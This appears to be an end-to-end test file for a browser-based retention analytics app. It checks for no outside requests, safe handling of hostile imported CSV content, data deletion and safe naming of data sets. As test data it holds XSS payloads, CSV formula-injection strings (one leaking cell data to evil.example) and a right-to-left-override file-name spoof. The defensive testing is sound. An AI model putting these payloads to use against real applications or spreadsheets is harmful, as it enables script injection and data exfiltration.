import { expect, test, testInOwnContext } from './support/test';
import { readFileSync } from 'node:fs';
import { fileFromText, fixture, importFiles } from './support/import';

// The requests test lets the service worker register (what it fetches counts), in a context of its
// own; the others need no worker and share the test worker's tab (a new context for each cost a cold
// start of the app, and the worker's caching of the whole site).
testInOwnContext.describe('with the service worker', () => {
	testInOwnContext.use({ serviceWorkers: 'allow' });

	testInOwnContext(
		'a full import → analysis → planner run requests nothing but the site’s own static files',
		async ({ page, context, baseURL }) => {
			const origin = new URL(baseURL!).origin;
			const basePath = new URL(baseURL!).pathname;
			const requests: string[] = [];
			context.on('request', (request) => requests.push(request.url()));

			await page.goto('./');
			const csp = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
			expect(csp).toContain("connect-src 'self'");
			expect(csp).toContain("default-src 'self'");

			await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Data' }).click();
			await importFiles(page, fixture('orders/shopify_orders.csv'), 'Private shop');
			await page.getByRole('link', { name: 'Analyse this data set' }).click();
			await expect(page.getByTestId('kpi-customers-value')).toHaveText('4');
			await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Planner' }).click();
			await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
			await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Calculators' }).click();
			await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
			// The offline cache is set up once the page is quiet (after the import): its requests, every file
			// of the site, are among those checked.
			await page.evaluate(() => navigator.serviceWorker.ready);
			expect(requests.filter((url) => url.includes('/workers/')).length).toBeGreaterThan(3);

			expect(requests.length).toBeGreaterThan(5);
			const foreign = requests.filter((url) => new URL(url).origin !== origin);
			expect(foreign, 'requests to other origins').toEqual([]);
			// Every request is a GET of a file of the built site: pages (up to three segments deep, e.g. a
			// calculator's exercises, which the calculators index preloads), scripts, styles, icons, the app manifest.
			const notStatic = requests.filter((url) => {
				const path = new URL(url).pathname;
				if (!path.startsWith(basePath)) return true;
				const rest = path.slice(basePath.length);
				return !(
					rest === '' ||
					/^(_app\/|favicon\.svg$|manifest\.webmanifest$|icons\/[a-z0-9-]+\.(png|svg)$|service-worker\.js$|[a-z-]+(\/[a-z-]+){0,2}(\.html)?$|__data\.json)/.test(
						rest
					)
				);
			});
			expect(notStatic, 'requests that are not the site’s own files').toEqual([]);
			// No request carries data: no query strings but the pages’ own parameters, no bodies.
			const withQuery = requests.filter(
				(url) => new URL(url).search && !/[?&]dataset=\d+$/.test(new URL(url).search)
			);
			expect(withQuery).toEqual([]);
		}
	);
});

test('hostile text in an imported file is shown as text and neutralised in exports', async ({ page }) => {
	let dialogs = 0;
	page.on('dialog', async (dialog) => {
		dialogs++;
		await dialog.dismiss();
	});
	const hostile = '<img src=x onerror=alert(1)>';
	const csv =
		[
			'order_id,customer_id,order_date,total,product',
			`1,"${hostile}",2023-01-05,10.00,"<script>alert(2)</script>"`,
			'2,=HYPERLINK("http://evil.example/?leak="&A1),2023-01-06,20.00,@SUM(1+1)',
			`3,"${hostile}",2023-02-05,5.00,+cmd`
		].join('\n') + '\n';
	await page.goto('./data');
	await importFiles(page, fileFromText('hostile.csv', csv), 'Hostile <b>name</b>');
	await expect(page.getByTestId('dataset-row').getByRole('rowheader')).toHaveText('Hostile <b>name</b>');
	await page.getByRole('link', { name: 'Analyse this data set' }).click();
	await expect(page.getByTestId('kpi-customers-value')).toHaveText('2');
	await expect(page.locator('img[src="x"]')).toHaveCount(0);
	await expect(page.locator('main script')).toHaveCount(0);

	const downloadPromise = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Export the customers of One-time buyers as CSV' }).click();
	const lines = readFileSync((await (await downloadPromise).path())!, 'utf8')
		.trim()
		.split('\r\n');
	expect(lines[1].startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A1)"`)).toBe(true);

	await page.goto('./data');
	const exportPromise = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Export CSV Hostile <b>name</b>' }).click();
	const exported = readFileSync((await (await exportPromise).path())!, 'utf8');
	expect(exported).toContain(`,${hostile},`);
	expect(exported).toContain("'@SUM(1+1)");
	expect(exported).toContain("'+cmd");
	expect(exported).not.toMatch(/(^|,)[=+@-][A-Za-z]/m);
	expect(dialogs).toBe(0);
});

test('Delete everything clears data sets, scenarios and settings after confirming', async ({ page }) => {
	await page.goto('./data');
	await importFiles(page, fixture('orders/uci_online_retail.csv'), 'To be wiped');
	await page.getByLabel('Currency').selectOption('GBP');
	await page.goto('./calculators/crr?s=10000&e=10200&n=2000');
	await page.evaluate(async () => {
		// A scenario, as the calculator page saves it.
		const open = indexedDB.open('retention-lab');
		await new Promise((resolve) => (open.onsuccess = resolve));
		const tx = open.result.transaction('scenarios', 'readwrite');
		tx.objectStore('scenarios').add({
			calculator: 'crr',
			name: 'kept?',
			inputs: { s: '1' },
			createdAt: 1,
			updatedAt: 1
		});
		await new Promise((resolve) => (tx.oncomplete = resolve));
		open.result.close();
	});

	await page.goto('./data');
	await page.getByRole('button', { name: 'Delete everything' }).click();
	await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
	await expect(page.getByTestId('dataset-row')).toHaveCount(1);

	await page.getByRole('button', { name: 'Delete everything' }).click();
	await page.getByRole('dialog').getByRole('button', { name: 'Delete everything' }).click();
	await expect(page.getByText('No data sets yet. Import a file above.')).toBeVisible();
	// The chosen euros are gone too: the currency is the en-US browser's again.
	await expect(page.getByLabel('Currency')).toHaveValue('USD');
	const left = await page.evaluate(async () => {
		const open = indexedDB.open('retention-lab');
		await new Promise((resolve) => (open.onsuccess = resolve));
		const names = [...open.result.objectStoreNames];
		const counts: number[] = [];
		for (const name of names) {
			const request = open.result.transaction(name).objectStore(name).count();
			counts.push(await new Promise<number>((resolve) => (request.onsuccess = () => resolve(request.result))));
		}
		open.result.close();
		return {
			counts,
			caches: (await caches.keys()).length,
			settings: Object.keys(localStorage).filter((k) => k.startsWith('retention-lab:'))
		};
	});
	expect(left.counts.every((n) => n === 0)).toBe(true);
	expect(left.settings).toEqual([]);
});

test('a hostile data-set name is isolated on screen and made safe in file names; an address naming no data set says so', async ({
	page
}) => {
	const name = '=HYPERLINK("http://evil")\u202Eslx.exe';
	await page.goto('./data');
	await importFiles(page, fixture('orders/woocommerce_orders.csv'), name);
	// Shown isolated, so the override cannot reorder the text around it.
	await expect(page.getByTestId('dataset-row').getByRole('rowheader').locator('bdi')).toHaveText(name);

	await page.getByRole('link', { name: 'Analyse this data set' }).click();
	await expect(page.getByTestId('kpi-orders-value')).toHaveText('4');
	const downloadPromise = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Export the customers of One-time buyers as CSV' }).click();
	expect((await downloadPromise).suggestedFilename()).toMatch(/^HYPERLINK_http_evil_slx\.exe-[a-z-]+\.csv$/);

	for (const id of ['abc', '-1', '1.5', '999']) {
		await page.goto(`./analysis?dataset=${id}`);
		const notice = page.getByTestId('no-such-dataset');
		await expect(notice).toContainText(`There is no data set “${id}” in this browser. Choose one of these:`);
		await expect(page.getByTestId('kpi-orders-value')).toHaveCount(0);
	}
	await page.getByTestId('no-such-dataset').getByRole('button', { name }).click();
	await expect(page.getByTestId('kpi-orders-value')).toHaveText('4');
});
